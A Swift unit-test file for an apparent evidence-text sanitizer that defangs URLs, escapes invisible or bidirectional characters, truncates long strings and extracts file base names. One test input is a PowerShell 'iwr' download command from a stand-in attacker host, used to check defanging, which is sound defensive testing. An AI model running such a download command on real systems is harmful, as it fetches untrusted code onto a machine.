// SPDX-License-Identifier: Apache-2.0

import Schema
import Testing

struct EvidenceTextTests {
    @Test func `URLs cannot be followed by accident`() {
        let text = EvidenceText.quoted("iwr HTTPS://evil.example/a.b -o x; http://1.2.3.4:80")

        #expect(text == "`iwr hxxps://evil[.]example/a.b -o x; hxxp://1[.]2[.]3[.]4:80`")
    }

    @Test func `what an eye would miss is shown`() {
        #expect(
            EvidenceText.plain("a\u{202E}b\u{200B}c\u{1B}d\ne")
                == "a\\u{202E}b\\u{200B}c\\u{1B}d\\ne"
        )
        #expect(EvidenceText.plain("a`b") == "a\\u{60}b")
        #expect(EvidenceText.plain("\u{E0041}") == "\\u{E0041}")
    }

    @Test func `long text is cut to its limit`() {
        let text = EvidenceText.plain(String(repeating: "ä", count: 500))

        #expect(text.count == EvidenceText.limit)
        #expect(text.hasSuffix("…"))
    }

    @Test func `the last part of a path is found with slashes of either kind`() {
        #expect(EvidenceText.base("C:\\Windows\\x.exe") == "x.exe")
        #expect(EvidenceText.base("/usr/bin/id") == "id")
        #expect(EvidenceText.base("plain") == "plain")
    }
}
